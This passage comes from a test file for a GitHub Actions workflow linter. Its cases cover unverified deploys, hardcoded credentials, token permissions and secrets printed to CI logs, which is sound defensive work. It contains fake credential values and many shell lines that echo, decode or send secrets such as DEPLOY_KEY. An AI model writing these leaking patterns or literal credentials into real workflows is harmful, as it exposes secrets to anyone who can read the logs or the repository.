      { name: 'docker push to a registry named by a variable, with no login seen', code: push(job('image', '      - uses: ./.github/actions/setup-docker\n      - run: docker push "$REGISTRY/app:1"\n', '    permissions:\n      packages: write\n')), errors: [{ line: 6, message: /release job `image`/ }] },
      { name: 'a push to the local registry beside one to ghcr.io', code: push(job('image', '      - run: docker push localhost:5000/app:1 && docker push ghcr.io/acme/app:1\n', '    permissions:\n      packages: write\n')), errors: [{ line: 6, message: /release job `image`/ }] },
      ...[
        ['podman pushing a local image to quay.io', 'docker push localhost:5000/app:1 && podman push localhost/app:1 quay.io/acme/app:1'],
        ['a docker push with a global flag before it', 'docker push localhost:5000/app:1 && docker --context prod push ghcr.io/acme/app:1'],
        ['skopeo copying to a registry beside a local push', 'docker push localhost:5000/app:1 && skopeo copy docker-daemon:app:1 docker://ghcr.io/acme/app:1'],
        ['a push run through timeout beside a local push', 'docker push localhost:5000/app:1 && timeout 300 docker push ghcr.io/acme/app:1']
      ].map(([what, run]) => ({ name: `${what}: a release`, code: push(job('image', `      - run: ${run}\n`, '    permissions:\n      packages: write\n')), errors: [{ line: 6, message: /release job `image`/ }] })),
      {
        name: 'container action given make deploy as its args',
        code: push(job('bench', `      - name: Start the benchmark\n        uses: docker://example/bench-tools@${DIGEST}\n        with:\n          args: make deploy\n`)),
        errors: [{ line: 6, message: /^job `bench` \(it runs `make deploy`, a deploy script by its name; what it does was not read\)/ }]
      }
    ]
  },
  'workflow/deploy-without-verification': {
    valid: [
      { code: gatedDeploy('      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n') },
      { name: 'step linting deployment manifests', code: LINT_DEPLOYMENT_MANIFESTS },
      { name: 'Azure k8s-deploy waits for the rollout', code: gatedDeploy(`      - uses: Azure/k8s-deploy@${SHA}\n        with:\n          manifests: k8s/\n`) },
      {
        name: 'ECS deploy with wait-for-service-stability',
        code: gatedDeploy(`      - uses: aws-actions/amazon-ecs-deploy-task-definition@${SHA}\n        with:\n          task-definition: task.json\n          service: api\n          wait-for-service-stability: true\n`)
      },
      { name: 'a test suite run after the deploy', code: gatedDeploy('      - run: helm upgrade --install api chart/\n      - run: make testacc\n') },
      { name: 'go test in a job after the deploy job', code: gatedDeploy('      - run: terraform apply -auto-approve\n') + '  acceptance:\n    needs: deploy\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - run: go test ./acceptance/...\n' },
      { name: 'a Playwright suite in a job after the deploy job', code: gatedDeploy('      - run: kubectl apply -f k8s/\n') + '  browser:\n    needs: deploy\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - run: npx playwright test --project=chromium\n' },
      { name: 'temporary infrastructure: applied, tested, destroyed in the same job', code: TEMPORARY_INFRA },
      { name: 'a release job running a script named deploy', code: RELEASE_THEN_DEPLOY_SCRIPT },
      { name: 'a stack deployed by make deploy-ide and always destroyed by make destroy-ide', code: deployThenDestroy() },
      {
        name: 'a job labelled deploy verified by tests in a job that needs it',
        code: gatedDeploy('      - run: ./bin/ship production\n').replace('  deploy:', '  deploy-prod:') + '  acceptance:\n    needs: deploy-prod\n    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n      - run: npm test\n'
      }
    ],
    invalid: [
      { code: gatedDeploy('      - name: apply\n        run: kubectl apply -f k8s/\n'), errors: [{ line: 12 }] },
      {
        name: 'tests in a job known as a deploy by its label only may run before the deploy',
        code: gatedDeploy('      - run: npm ci && npm test\n      - run: ./bin/ship production\n').replace('  deploy:', '  deploy-prod:'),
        errors: [{ line: 6, message: /^deploy job `deploy-prod` has no rollout wait/ }]
      },
      { name: 'tests run before the deploy verify nothing of it', code: gatedDeploy('      - run: go test ./...\n      - run: kubectl apply -f k8s/\n'), errors: [{ line: 13 }] },
      {
        name: 'only some resources destroyed after the apply',
        code: gatedDeploy('      - run: terraform apply -auto-approve\n      - run: terraform destroy -target=module.old -auto-approve\n'),
        errors: [{ line: 12 }]
      },
      {
        name: 'a script named deploy is said to be judged by its name',
        code: push(job('ship', '      - run: ./scripts/deploy.sh\n', '    environment: production\n    concurrency: production\n')),
        errors: [{ line: 12, message: 'job `ship` (it runs `./scripts/deploy.sh`, a deploy script by its name; what it does was not read) has no rollout wait, health/smoke check or rollback step after deploying.' }]
      },
      {
        name: 'ECS deploy that does not wait',
        code: gatedDeploy(`      - uses: aws-actions/amazon-ecs-deploy-task-definition@${SHA}\n        with:\n          task-definition: task.json\n`),
        errors: [{ line: 12 }]
      }
    ]
  },
  'workflow/job-without-timeout': {
    valid: [
      { code: push(job('test', '      - run: make test\n')) },
      { name: 'reusable workflow call (cannot set a timeout)', code: push(`  call:\n    uses: other-org/wf/.github/workflows/build.yml@${SHA}\n`) }
    ],
    invalid: [{ code: push('  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n'), errors: [{ line: 6 }] }]
  },
  'workflow/literal-credential': {
    valid: [
      { code: push(job('build', '      - run: make\n        env:\n          DB_PASSWORD: ${{ secrets.DB_PASSWORD }}\n          TOKEN_FORMAT: json-web-token\n')) },
      { name: 'placeholder', code: push(job('build', '      - run: make\n        env:\n          DB_PASSWORD: changeme\n')) },
      {
        name: "the password of the job's own service container, repeated to connect to it",
        code: push(job('test', '      - run: make test\n        env:\n          APP_TEST_DATABASE_PASSWORD: app_test_pw_2024\n', '    services:\n      postgres:\n        image: postgres:16\n        env:\n          POSTGRES_PASSWORD: app_test_pw_2024\n'))
      },
      { name: 'token from expressions', code: push(job('build', `      - uses: example-org/upload@${SHA}\n        with:\n          token: \${{ github.token }}\n          password: \${{ env.REGISTRY_PASSWORD }}\n`)) },
      { name: 'password file path', code: push(job('build', `      - uses: example-org/upload@${SHA}\n        with:\n          password-file: /run/secrets/pw\n`)) },
      {
        name: 'a value saying it is no secret, inside a slug',
        code: push(job('build', '      - run: make\n        env:\n          PAPERLESS_SECRET_KEY: "ci-release-not-a-real-secret"\n          APP_TOKEN: dev_insecure_token\n          SIGNING_KEY: do-not-use-key\n'))
      }
    ],
    invalid: [
      {
        name: 'a user:password pair that repeats the user: medium, saying why',
        code: push(job('e2e', '      - run: npx playwright test\n        env:\n          DATABASE_HOSTNAME: localhost\n          DATABASE_CREDENTIALS: dispatch:dispatch\n')),
        errors: [{ line: 13, severity: 'medium', message: /a user name and password that are the same, a default login anyone can guess; medium\)\.$/ }]
      },
      {
        name: 'a random value doubled is no default login: high',
        code: push(job('e2e', '      - run: make e2e\n        env:\n          DB_CREDENTIALS: Xk9mQ2pL7vR4nT8wZ3:Xk9mQ2pL7vR4nT8wZ3\n')),
        errors: [{ line: 12, severity: 'high' }]
      },
      { code: push(job('build', '      - run: make\n        env:\n          DB_PASSWORD: hunter2hunter2\n')), errors: [{ line: 12, severity: 'high' }] },
      {
        name: 'words and a number (a throwaway service password): medium, saying why',
        code: push(job('build', '      - run: make\n        env:\n          REGISTRY_ADMIN_PASSWD: Registry12345\n          CORE_SECRET: tempString\n')),
        errors: [
          { line: 12, severity: 'medium', message: /words and a number, not a generated secret; medium\)\.$/ },
          { line: 13, severity: 'medium', message: /\(words, not a generated secret; medium\)\.$/ }
        ]
      },
      {
        name: 'words and a number in a job that starts a service: most likely for that service',
        code: push(job('test', '      - run: docker compose -f ci.yml up --detach\n      - run: make test\n        env:\n          DB_PASSWORD: Registry12345\n')),
        errors: [{ line: 13, severity: 'medium', message: /words and a number, not a generated secret: most likely for a service this run starts; medium/ }]
      },
      { name: "a long random tail after django-insecure- is Django's generated key: high", code: push(job('build', '      - run: make\n        env:\n          DJANGO_SECRET_KEY: django-insecure-k3v9x2m7qp4w8z1r6t5y0u\n')), errors: [{ line: 12, severity: 'high' }] },
      { name: 'a generated token stays high', code: push(job('build', '      - run: make\n        env:\n          API_TOKEN: Xk9mP2qL7wRt4v\n')), errors: [{ line: 12, severity: 'high' }] },
      {
        name: 'a key in a workflow env that sets NODE_ENV: test: medium, saying so',
        code: push(job('test', '      - run: yarn test\n')).replace('jobs:\n', 'env:\n  NODE_ENV: test\n  SECRET_KEY: F0E5AD933D7F6FD8F4DBB3E038C501C052DC0593C686D21ACB30AE205D2F634B\njobs:\n'),
        errors: [{ line: 7, severity: 'medium', message: /\(the env sets `NODE_ENV: test`: most likely a value for the application under test; medium\)\.$/ }]
      },
      {
        name: "a step's env under a job env setting RAILS_ENV: test: medium",
        code: push(job('test', '      - run: bin/rails test\n        env:\n          SESSION_SECRET: Xk9mP2qL7wRt4vXk9mP2qL7wRt4v\n', '    env:\n      RAILS_ENV: test\n')),
        errors: [{ line: 14, severity: 'medium' }]
      },
      { name: 'a vendor-shaped token under NODE_ENV: test stays high', code: push(job('test', '      - run: yarn test\n        env:\n          NODE_ENV: test\n          SLACK_TOKEN: xoxb-123456789012-abcdefghijkl\n')), errors: [{ line: 13, severity: 'high' }] },
      { name: 'NODE_ENV: production does not lower it', code: push(job('build', '      - run: make\n        env:\n          NODE_ENV: production\n          SECRET_KEY: Xk9mP2qL7wRt4v\n')), errors: [{ line: 13, severity: 'high' }] },
      {
        name: 'a job setting NODE_ENV: production under a workflow env setting test: high',
        code: push(job('deploy', '      - run: make deploy\n        env:\n          SECRET_KEY: Xk9mP2qL7wRt4v\n', '    env:\n      NODE_ENV: production\n')).replace('jobs:\n', 'env:\n  NODE_ENV: test\njobs:\n'),
        errors: [{ line: 16, severity: 'high' }]
      },
      {
        name: "a workflow env's key under NODE_ENV: test while a job runs NODE_ENV: production: high",
        code: push(job('deploy', '      - run: make deploy\n', '    env:\n      NODE_ENV: production\n')).replace('jobs:\n', 'env:\n  NODE_ENV: test\n  SECRET_KEY: Xk9mP2qL7wRt4vXk9m\njobs:\n'),
        errors: [{ line: 7, severity: 'high' }]
      },
      { name: "an app's secret (often a Facebook or Shopify app's) under NODE_ENV: test: high", code: push(job('test', '      - run: yarn test\n        env:\n          NODE_ENV: test\n          APP_SECRET: Xk9mP2qL7wRt4vXk9m\n')), errors: [{ line: 13, severity: 'high' }] },
      { name: "an outside service's token under NODE_ENV: test: high", code: push(job('test', '      - run: yarn test\n        env:\n          NODE_ENV: test\n          NPM_TOKEN: Xk9mP2qL7wRt4vXk9mP2qL7wRt4v\n')), errors: [{ line: 13, severity: 'high' }] },
      ...['Xk9mP2vLq8Rw-insecure', '8fK2-pQ9z-Lm3X-vB7n-insecure'].map((value) => ({
        name: `a generated value with a no-secret word stuck on stays high: ${value}`,
        code: push(job('build', `      - run: make\n        env:\n          API_SECRET: ${value}\n`)),
        errors: [{ line: 12, severity: 'high' as const }]
      })),
      { name: 'container registry password', code: push('  build:\n    runs-on: ubuntu-latest\n    timeout-minutes: 5\n    container:\n      image: ghcr.io/acme/builder@' + DIGEST + '\n      credentials:\n        username: bot\n        password: s3cr3t-Passw0rd\n    steps:\n      - run: make\n'), errors: [{ line: 13 }] }
    ]
  },
  'workflow/missing-permissions': {
    valid: [
      { code: push(job('test', '      - run: make test\n')) },
      { name: 'every job sets permissions', code: 'name: ci\non: push\njobs:\n' + job('test', '      - run: make test\n', '    permissions:\n      contents: read\n') },
      { name: 'the called workflow of this repository sets permissions at its top level', files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called(OIDC_READ) } },
      { name: 'the called workflow, unchanged, read as context', files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called(OIDC_READ) }, contextOnly: [CALLED] },
      { name: 'the called workflow, by the self-repository reference, sets permissions', files: { [CALLER]: bare(caller('acceptance', `$/${CALLED}`)), [CALLED]: called(OIDC_READ) } },
      { name: 'the same with slashes the runner drops after $', files: { [CALLER]: bare(caller('acceptance', `$//${CALLED}`)), [CALLED]: called(OIDC_READ) } },
      { name: 'the called workflow sets permissions in each of its jobs', files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called('', '    permissions:\n      contents: read\n') } },
      {
        name: 'the called workflow calls another one that sets permissions',
        files: { [CALLER]: bare(caller('acceptance')), [CALLED]: bare(caller('inner', './.github/workflows/inner.yml')).replace('on: push', 'on: workflow_call'), '.github/workflows/inner.yml': called(OIDC_READ) }
      },
      { name: 'scanned from a parent folder', files: { [`app/${CALLER}`]: bare(caller('acceptance')), [`app/${CALLED}`]: called(OIDC_READ) } },
      {
        name: 'a called workflow without permissions whose only caller sets them: it runs on that token',
        files: { [CALLER]: 'name: ci\non: push\npermissions: {}\njobs:\n' + caller('acceptance'), [CALLED]: called('') }
      }
    ],
    invalid: [
      { code: 'name: ci\non: push\njobs:\n' + job('test', '      - run: make test\n'), errors: [{ line: 3, message: 'no `permissions` at workflow level nor for job `test`, so the GITHUB_TOKEN gets the repository default (possibly read-write).' }] },
      {
        name: 'the called workflow sets no permissions either',
        files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called('') },
        errors: [
          { path: CALLER, line: 3, message: /for job `acceptance`, so the GITHUB_TOKEN gets the repository default \(possibly read-write\)\.$/ },
          { path: CALLED, line: 3, message: /of this called workflow, so they get whatever token the caller grants, and `\.github\/workflows\/ci\.yml` calls it with the repository default/ }
        ]
      },
      {
        name: 'a called workflow without permissions and no caller in the analysis',
        files: { [CALLED]: called('') },
        errors: [{ path: CALLED, line: 3, message: /get whatever token the caller grants \(callers outside this analysis; one that sets no `permissions` passes the repository default, possibly read-write\)\.$/ }]
      },
      {
        name: 'the called workflow was not read',
        files: { [CALLER]: bare(caller('acceptance')) },
        errors: [{ line: 3, message: /; job `acceptance` \(`\.\/\.github\/workflows\/run-tests\.yml`\) calls a reusable workflow that may lower it for its own jobs, but was not read\.$/ }]
      },
      {
        name: 'reusable workflow of another repository',
        code: bare(caller('scan', `other-org/wf/.github/workflows/scan.yml@${SHA}`)),
        errors: [{ line: 3, message: /job `scan` \(`other-org\/wf\/\.github\/workflows\/scan\.yml@[0-9a-f]+`\) calls a reusable workflow that may lower it/ }]
      },
      {
        name: 'write-all in the called workflow leaves the grant of the caller',
        files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called('permissions: write-all\n') },
        errors: [{ line: 3, message: /for job `acceptance`, so/ }]
      },
      {
        name: 'a job of the called workflow overrides its permissions with write-all',
        files: { [CALLER]: bare(caller('acceptance')), [CALLED]: called(OIDC_READ, '    permissions: write-all\n') },
        errors: [{ line: 3 }]
      },
      {
        name: 'only the jobs no permissions decide are named',
        files: { [CALLER]: bare(caller('acceptance') + job('lint', '      - run: make lint\n')), [CALLED]: called(OIDC_READ) },
        errors: [{ line: 3, message: 'no `permissions` at workflow level nor for job `lint`, so the GITHUB_TOKEN gets the repository default (possibly read-write).' }]
      },
      {
        name: 'two workflows calling each other decide nothing',
        files: { [CALLER]: bare(caller('acceptance')).replace('on: push', 'on: [push, workflow_call]'), [CALLED]: bare(caller('back', `./${CALLER}`)).replace('on: push', 'on: workflow_call') },
        errors: [
          { path: CALLER, line: 3 },
          { path: CALLED, line: 3 }
        ]
      },
      {
        name: 'a scheduled job whose one step is a SHA-pinned action given a token of its own: low',
        code: weekly(dispatchStep()),
        errors: [{ line: 5, severity: 'low', message: REACHES_NOTHING }]
      },
      {
        name: 'an input whose name only contains a command word (description, runner-os): still low',
        code: weekly(dispatchStep(undefined, undefined, '          description: nightly acceptance\n          runner-os: linux\n')),
        errors: [{ line: 5, severity: 'low', message: REACHES_NOTHING }]
      },
      {
        name: "GitHub's own action pinned by tag, given a bot's token, on issues: low",
        code: 'name: issues\non:\n  issues:\n    types: [opened]\njobs:\n' + job('dispatch', ADD_TO_PROJECT),
        errors: [{ line: 5, severity: 'low', message: REACHES_NOTHING }]
      },
      {
        name: "GitHub's own action given a bot's token, a token read as secrets['NAME'] and a job env token of another secret: low",
        code: weekly(`      - uses: actions/download-artifact@${SHA}\n        with:\n          github-token: \${{ secrets.BOT_PAT }}\n` + dispatchStep("          token: ${{ secrets['ELEVATED_GITHUB_TOKEN'] }}\n"), '    env:\n      GH_TOKEN: ${{ secrets.BOT_PAT }}\n'),
        errors: [{ line: 5, severity: 'low', message: REACHES_NOTHING }]
      },
      {
        name: 'two such jobs: low, both named',
        code: weekly(dispatchStep()) + job('project', ADD_TO_PROJECT),
        errors: [{ line: 5, severity: 'low', message: /^no `permissions` at workflow level nor for jobs `dispatch`, `project`, .* Low: nothing in jobs `dispatch`, `project` can receive the default token/ }]
      },
      {
        name: 'a called workflow whose one job hands its token to nothing: low',
        files: { [CALLED]: called('', '', dispatchStep()) },
        errors: [{ path: CALLED, line: 3, severity: 'low', message: /of this called workflow, so they get whatever token the caller grants .*\. Low: nothing in job `test` can receive the default token/ }]
      },
      staysMedium('a step also handed the job token in its env', weekly(dispatchStep() + '        env:\n          GH_TOKEN: ${{ github.token }}\n')),
      staysMedium('a self-hosted runner, which may keep code an earlier job left', weekly(dispatchStep()).replace('runs-on: ubuntu-latest', 'runs-on: [self-hosted, linux]')),
      staysMedium('a runner group, which may be self-hosted whatever its labels', weekly(dispatchStep()).replace('runs-on: ubuntu-latest', 'runs-on:\n      group: private-pool\n      labels: [ubuntu-latest]')),
      staysMedium("GitHub's own action with no token input, which defaults it to the job's token", weekly('      - uses: actions/stale@v9\n        with:\n          days-before-stale: 30\n')),
      staysMedium('a runner label from an expression', weekly(dispatchStep()).replace('runs-on: ubuntu-latest', 'runs-on: ${{ vars.RUNNER }}')),
      staysMedium("another service's token as the action's only token input (its GitHub token input may default to the job token)", weekly(dispatchStep('          slack-token: ${{ secrets.SLACK_BOT_TOKEN }}\n'))),
      staysMedium('an action given commands to run (an input named command)', weekly(dispatchStep(undefined, undefined, '          command: npx some-cli@latest publish\n'))),
      staysMedium("GitHub's own action given a script input", weekly(ADD_TO_PROJECT.replace('          github-token', '          preCommands: npm install -g some-build-tool\n          github-token'))),
      staysMedium("the action's token input is the job token", weekly(dispatchStep('          token: ${{ secrets.GITHUB_TOKEN }}\n'))),
      staysMedium("the job token read as secrets['GITHUB_TOKEN']", weekly(dispatchStep("          token: ${{ secrets['GITHUB_TOKEN'] }}\n"))),
      staysMedium('a bot token falling back on the job token', weekly(dispatchStep('          token: ${{ secrets.BOT_PAT || github.token }}\n'))),
      staysMedium('every secret handed over whole', weekly(dispatchStep(undefined, undefined, '          inputs: ${{ toJSON(secrets) }}\n'))),
      staysMedium('a secret picked by a computed name', weekly(dispatchStep('          token: ${{ secrets[matrix.token] }}\n'))),
      staysMedium('a step condition on the job token, written without ${{ }}', weekly(dispatchStep() + "        if: github.token != ''\n")),
      staysMedium('a job condition on the job token', weekly(dispatchStep(), "    if: ${{ github.token != '' }}\n")),
      staysMedium('the job env hands the job token to every step', weekly(dispatchStep(), '    env:\n      GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n')),
      staysMedium('the workflow env hands the job token to every step', weekly(dispatchStep(), '', 'env:\n  GH_TOKEN: ${{ github.token }}\n')),
      staysMedium('a workflow env token that is not a secret', weekly(dispatchStep(), '', 'env:\n  GH_TOKEN: ${{ vars.BOT_TOKEN }}\n')),
      staysMedium("the action's inputs given as one expression", weekly(`      - uses: benc-uk/workflow-dispatch@${SHA}\n        with: \${{ fromJSON(vars.DISPATCH) }}\n`)),
      staysMedium('the job env given as one expression', weekly(dispatchStep(), '    env: ${{ fromJSON(vars.JOB_ENV) }}\n')),
      staysMedium(
        "the action's inputs merged from an anchor that hands it the job token",
        weekly(dispatchStep(undefined, undefined, '          <<: *dispatch\n'), '', 'x-dispatch: &dispatch\n  github-token: ${{ github.token }}\n')
      ),
      staysMedium('a third-party action pinned by tag', weekly(dispatchStep(undefined, 'benc-uk/workflow-dispatch@v1'))),
      staysMedium(
        'a SHA-pinned third-party action with no token input, which may default to the job token',
        weekly(`      - uses: benc-uk/workflow-dispatch@${SHA}\n        with:\n          workflow: acceptance.yml\n`)
      ),
      staysMedium('a token input set to a step output rather than a secret', weekly(dispatchStep('          token: ${{ steps.app.outputs.token }}\n'))),
      staysMedium('an empty token input', weekly(dispatchStep("          token: ''\n"))),
      staysMedium("GitHub's own action following a branch", weekly(ADD_TO_PROJECT.replace('@v0.5.0', '@main'))),
      staysMedium('a run step beside it', weekly(dispatchStep() + '      - run: echo dispatched\n')),
      staysMedium('a checkout that keeps no token', weekly(`      - uses: actions/checkout@${SHA}\n        with:\n          persist-credentials: false\n` + dispatchStep())),
      staysMedium(
        'github-script, a script like run:, even given a bot token',
        weekly(`      - uses: actions/github-script@${SHA}\n        with:\n          github-token: \${{ secrets.BOT_PAT }}\n`)
      ),
      staysMedium('a local composite action', weekly(dispatchStep(undefined, './.github/actions/dispatch'))),
      staysMedium('an action image', weekly(`      - uses: docker://alpine@${DIGEST}\n        with:\n          token: \${{ secrets.BOT_PAT }}\n`)),
      staysMedium('a job container', weekly(dispatchStep(), `    container: node@${DIGEST}\n`)),
      staysMedium('a service container', weekly(dispatchStep(), `    services:\n      redis:\n        image: redis@${DIGEST}\n`)),
      staysMedium('another job of the workflow runs a script', weekly(dispatchStep()) + job('build', '      - run: make\n')),
      staysMedium('a job calling a reusable workflow with every secret', weekly(dispatchStep()) + `  call:\n    uses: other-org/wf/.github/workflows/scan.yml@${SHA}\n    secrets: inherit\n`)
    ]
  },
  'workflow/permissions-write-all': {
    valid: [{ code: push(job('test', '      - run: make test\n')) }],
    invalid: [
      { code: 'name: ci\non: push\npermissions: write-all\njobs:\n' + job('test', '      - run: make test\n'), errors: [{ line: 3, severity: 'high' }] },
      { name: 'job level', code: push(job('test', '      - run: make test\n', '    permissions: write-all\n')), errors: [{ line: 9 }] }
    ]
  },
  'workflow/secret-echoed': {
    valid: [
      { name: 'piped to --password-stdin', code: push(job('build', '      - run: echo "${{ secrets.REGISTRY_TOKEN }}" | docker login ghcr.io -u bot --password-stdin\n')) },
      { name: 'piped to a CLI switch that reads a token from stdin', code: push(job('build', '      - run: echo $JF_TOKEN | jf c add --interactive=false --access-token-stdin\n        env:\n          JF_TOKEN: ${{ secrets.JF_TOKEN }}\n')) },
      { name: 'masked', code: push(job('build', '      - run: echo "::add-mask::$DEPLOY_KEY"\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n')) },
      { name: 'written to a file, not the log', code: push(job('build', '      - run: echo "$DEPLOY_KEY" > key.pem\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n')) },
      { name: 'piped into a command', code: push(job('build', '      - run: echo "$KUBECONFIG_B64" | base64 -d > kubeconfig\n        env:\n          KUBECONFIG_B64: ${{ secrets.KUBECONFIG }}\n')) },
      { name: 'into a process substitution read by another command', code: printsKey(`gpg --batch --import <(printf '%s' "$DEPLOY_KEY")`) },
      { name: 'into a command substitution', code: printsKey(`curl -fsS -u "bot:$( printf '%s' "$DEPLOY_KEY" )" https://example.com/hook`) },
      { name: 'stdout and stderr both to a file', code: printsKey('echo "$DEPLOY_KEY" &> key.pem') },
      { name: 'in backquotes', code: printsKey('ssh-add - <<< `echo "$DEPLOY_KEY"`') },
      { name: 'stderr copied to the log, stdout to a file', code: printsKey(`printf '%s' "$DEPLOY_KEY" 2>&1 >/tmp/key`) },
      { name: 'stderr copied before a pipe into --password-stdin', code: printsKey('echo "$DEPLOY_KEY" 2>&1 | docker login -u bot --password-stdin ghcr.io') },
      { name: 'decoded into gpg', code: printsKey('echo "$DEPLOY_KEY" | base64 -d | gpg --batch --import') },
      { name: 'tee writing to a file with its own output discarded', code: printsKey('echo "$DEPLOY_KEY" | tee key.pem >/dev/null') },
      { name: 'a pipe on the continued line', code: printsKey('|\n          echo "$DEPLOY_KEY" \\\n            | gh auth login --with-token') },
      { name: 'a commented-out echo', code: printsKey('|\n          # echo "$DEPLOY_KEY"\n          make')},
      { name: 'piped into kubectl apply -f -', code: printsKey('echo "$DEPLOY_KEY" | kubectl apply -f -') },
      {
        name: 'piped into a while-read loop that masks each line and hands it to a command',
        code: printsKey('|\n          echo "$DEPLOY_KEY" | while read role\n          do\n            echo "::add-mask::$role"\n            eksctl create iamidentitymapping --arn "${role}"\n          done')
      },
      {
        name: 'a while-read loop that also keeps a last line without a newline (`|| [ -n "$role" ]`)',
        code: printsKey('|\n          echo "$DEPLOY_KEY" | while read -r role || [ -n "$role" ]; do\n            ./register.sh "$role"\n          done')
      },
      { name: 'the same with `test -n` on one line', code: printsKey('echo "$DEPLOY_KEY" | while IFS= read -r key || test -n "$key"; do ./register.sh "$key"; done') },
      { name: 'piped into a one-line while IFS= read -r loop', code: printsKey(`printf '%s\\n' "$DEPLOY_KEY" | while IFS= read -r key; do ./register.sh "$key"; done`) },
      {
        name: 'a key password piped into cosign sign, which reads it from stdin without a terminal and prints nothing of it',
        code: push(job('release', '      - run: echo -n "$COSIGN_PASSWORD" | cosign sign --key /tmp/cosign.key --yes $TAG\n        env:\n          COSIGN_PASSWORD: ${{ secrets.COSIGN_PASSWORD }}\n'))
      },
      { name: 'cosign verify reading its public key from stdin prints nothing of it', code: printsKey('echo "$DEPLOY_KEY" | cosign verify --key /dev/stdin $IMAGE') },
      { name: 'the same for cosign sign-blob', code: printsKey(`printf '%s' "$DEPLOY_KEY" | cosign sign-blob --key cosign.key --output-signature out.sig dist.tar.gz`) },
      { name: 'a pass phrase piped into openssl -passin stdin', code: printsKey('echo "$DEPLOY_KEY" | openssl pkcs12 -export -in cert.pem -inkey key.pem -passin stdin -out out.p12') },
      { name: 'openssl enc -d with -pass stdin writing the decrypted file with -out', code: printsKey('echo "$DEPLOY_KEY" | openssl enc -d -aes-256-cbc -pbkdf2 -in secrets.env.enc -pass stdin -out secrets.env') },
      { name: 'piped into a --key-file=- option', code: printsKey(`printf '%s' "$DEPLOY_KEY" | gcloud auth activate-service-account --key-file=-`) },
      { name: "a single-quoted '\\x24{{ … }}' is literal text, not an expression", code: push(job('build', "      - run: 'echo key is \\x24{{ secrets.DEPLOY_KEY }}'\n")) }
    ],
    invalid: [
      { code: push(job('build', '      - run: echo "key is ${{ secrets.DEPLOY_KEY }}"\n')), errors: [{ line: 10 }] },
      { name: 'sent to stderr, which is the log too', code: printsKey('echo "$DEPLOY_KEY" >&2'), errors: [{ line: 10 }] },
      { name: 'only stderr redirected', code: printsKey('echo "$DEPLOY_KEY" 2>/dev/null'), errors: [{ line: 10 }] },
      { name: 'cosign verify reads no password from stdin', code: printsKey('echo "$DEPLOY_KEY" | cosign verify --key cosign.pub $IMAGE'), errors: [{ line: 10 }] },
      {
        name: "cosign attest reading its predicate from stdin: the piped secret is the attestation, sent to the public log",
        code: printsKey('echo "$DEPLOY_KEY" | cosign attest --key cosign.key --predicate /dev/stdin $IMAGE'),
        errors: [{ line: 10 }]
      },
      ...[
        ['-out s.env -out /dev/stdout', 'the last -out, which openssl keeps, is the log'],
        ['-out /proc/self/fd/1', 'standard output by its /proc name'],
        ['-out "$GITHUB_STEP_SUMMARY"', 'the job summary']
      ].map(([out, why]) => ({ name: `openssl enc -d writing the decrypted file to ${why}`, code: printsKey(`echo "$DEPLOY_KEY" | openssl enc -d -aes-256-cbc -in s.enc -pass stdin ${out}`), errors: [{ line: 10 }] })),
      ...['/dev/fd/0', '/proc/self/fd/0'].map((stdin) => ({ name: `cosign attest reading its predicate from ${stdin}`, code: printsKey(`echo "$DEPLOY_KEY" | cosign attest --key cosign.key --predicate ${stdin} $IMAGE`), errors: [{ line: 10 }] })),
      { name: 'openssl given its pass phrase elsewhere prints what it reads', code: printsKey('echo "$DEPLOY_KEY" | openssl enc -base64 -passin env:PASS'), errors: [{ line: 10 }] },
      {
        name: 'openssl enc -d given its pass phrase on stdin but no -out prints the decrypted file to the log',
        code: printsKey('echo "$DEPLOY_KEY" | openssl enc -d -aes-256-cbc -pbkdf2 -in secrets.env.enc -pass stdin'),
        errors: [{ line: 10 }]
      },
      { name: 'the same with -out - (standard output)', code: printsKey('echo "$DEPLOY_KEY" | openssl enc -d -aes-256-cbc -in secrets.env.enc -pass stdin -out -'), errors: [{ line: 10 }] },
      { name: 'tee prints what it writes', code: printsKey('echo "$DEPLOY_KEY" | tee key.pem'), errors: [{ line: 10 }] },
      { name: 'in a subshell', code: printsKey('( echo "$DEPLOY_KEY" ) && make'), errors: [{ line: 10 }] },
      { name: 'a pipe inside quotes is no pipe', code: printsKey(`printf 'a|%s' "$DEPLOY_KEY"`), errors: [{ line: 10 }] },
      { name: 'an echo of a substitution holding it', code: printsKey(`echo "key=$(printf '%s' "$DEPLOY_KEY")"`), errors: [{ line: 10 }] },
      { name: 'decoded into the log', code: printsKey('echo "$DEPLOY_KEY" | base64 -d'), errors: [{ line: 10 }] },
      { name: 'a while-read loop whose body prints the line it read', code: printsKey('|\n          echo "$DEPLOY_KEY" | while read -r role; do\n            echo "role: $role"\n          done'), errors: [{ line: 12 }] },
      { name: 'a while-read loop printing the line it read, on one line', code: printsKey('echo "$DEPLOY_KEY" | while read -r a b; do echo "$b"; done'), errors: [{ line: 10 }] },
      { name: 'a while loop whose condition is not a read', code: printsKey('echo "$DEPLOY_KEY" | while cat; do break; done'), errors: [{ line: 10 }] },
      { name: 'a last-line test on a variable the loop does not read is another command', code: printsKey('echo "$DEPLOY_KEY" | while read -r role || [ -n "$other" ]; do :; done'), errors: [{ line: 10 }] },
      { name: 'a while-read loop with a last-line test whose body prints the line', code: printsKey('echo "$DEPLOY_KEY" | while read -r role || [ -n "$role" ]; do echo "$role"; done'), errors: [{ line: 10 }] },
      { name: 'a while-read condition sharing its input with another command', code: printsKey('echo "$DEPLOY_KEY" | while read -r role && cat; do :; done'), errors: [{ line: 10 }] },
      { name: 'reversed into the log', code: printsKey('echo "$DEPLOY_KEY" | rev | cat'), errors: [{ line: 10 }] },
      { name: 'stderr copied, stdout left in the log', code: printsKey('echo "$DEPLOY_KEY" 2>&1 | cat'), errors: [{ line: 10 }] },
      { name: 'continued over two lines, reported on the first', code: printsKey('|\n          make\n          echo \\\n            "$DEPLOY_KEY"'), errors: [{ line: 12 }] },
